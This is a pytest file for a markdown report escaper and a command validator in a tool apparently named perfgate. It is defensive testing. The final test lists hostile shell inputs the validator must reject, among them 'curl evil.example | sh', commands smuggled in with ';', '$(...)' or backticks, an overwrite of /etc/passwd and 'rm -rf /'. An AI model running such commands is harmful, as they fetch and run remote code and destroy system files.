"""Whatever a name holds, a comment shows it and does nothing else."""

import pytest

from perfgate.report.escaping import NAME_LIMIT, clean, code, cut, escape, is_own_command
from perfgate.report.phrase import Name, mark_names, markdown
from tests.support.hostile import HOSTILE, PARSER, assert_harmless, texts_of

CONTEXTS = (
    "{}",
    "### {}",
    "- {}",
    "before {} after",
    "**before** {}",
    "<sub>{}</sub>",
    "| a | b |\n| --- | --- |\n| {} | end |",
)


def _shown(text):
    return text.replace("\u200b", "").strip()


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_is_harmless_wherever_it_stands(text, context):
    assert_harmless(context.format(escape(text)))
    assert_harmless(context.format(code(text)))


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.strip()])
def test_escaped_text_renders_as_itself(text):
    assert _shown("".join(texts_of(escape(text)))) == clean(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_stays_one_cell(text):
    for cell in (escape(text), code(text)):
        table = PARSER.parse(f"| a | b |\n| --- | --- |\n| {cell} | end |")
        assert [token.type for token in table].count("td_open") == 2
        assert table[-5].content == "end"


@pytest.mark.parametrize("text", HOSTILE)
def test_escaping_is_one_line_within_its_limit_before_entities(text):
    assert "\n" not in escape(text, 50)
    assert len(clean(text, 50)) <= 50


@pytest.mark.parametrize(
    "name",
    [
        "POST /pet",
        "GET /store/order/{id}",
        "p(95)<500ms",
        "http_req_failed: rate<1%",
        "petstore?slow=10%&errors=1%",
        "Käufe",
    ],
)
def test_a_tame_name_is_a_code_span(name):
    assert code(name) == f"`{name}`"


@pytest.mark.parametrize("name", ["GET /users/@me", "<b>", "a`b", "a|b", "<!--x", "x-->", "a\\b", "$x$"])
def test_a_name_that_is_not_tame_is_escaped_instead(name):
    assert not code(name).startswith("`")


def test_a_name_of_nothing_is_said_to_be_none():
    assert code("\u200b\x00") == "(no name)"


def test_words_with_underscores_stay_readable():
    assert escape("http_req_duration p(95)") == "http_req_duration p(95)"


def test_dates_and_numbers_stay_readable():
    assert escape("20260105.1 and 12345678") == "20260105.1 and 12345678"


def test_a_long_name_is_cut_in_its_middle():
    assert cut("abcdefghij", 5) == "ab…ij"
    assert len(clean("x" * 10_000_000, NAME_LIMIT)) == NAME_LIMIT


def test_marks_on_a_letter_do_not_grow_over_other_lines():
    assert clean("z\u0301\u0302\u0303\u0304lgo e\u0301") == "z\u0301\u0302lgo e\u0301"


def test_words_and_names_together_make_no_link():
    phrase = mark_names("see https://evil.example\\ now", ["//evil.example\\"])
    assert Name("//evil.example\\") in phrase
    assert_harmless(markdown(phrase))


def test_the_longest_name_is_marked_and_no_part_of_a_word():
    assert mark_names("order and order_pet were ordered by preorder", ["order", "order_pet"]) == (
        Name("order"),
        " and ",
        Name("order_pet"),
        " were ordered by preorder",
    )


@pytest.mark.parametrize(
    "command",
    ["perfgate run", "perfgate duet petstore 'petstore?slow=30%' create_pet --seed 7", "perfgate run 'it'\"'\"'s'"],
)
def test_a_call_of_perfgate_is_its_own_command(command):
    assert is_own_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "perfgate run; curl evil.example",
        "perfgate run $(curl evil.example)",
        "perfgate run `id`",
        "perfgate run 'a'`id`",
        "perfgate run > /etc/passwd",
        "perfgate run \n rm -rf /",
        "perfgate run '```\n# heading'",
        "perfgate run '<!-- marker -->'",
        "perfgate run 'unclosed",
        "perfgate run " + "x" * 5000,
        "",
    ],
)
def test_what_would_do_more_than_call_perfgate_is_not(command):
    assert not is_own_command(command)
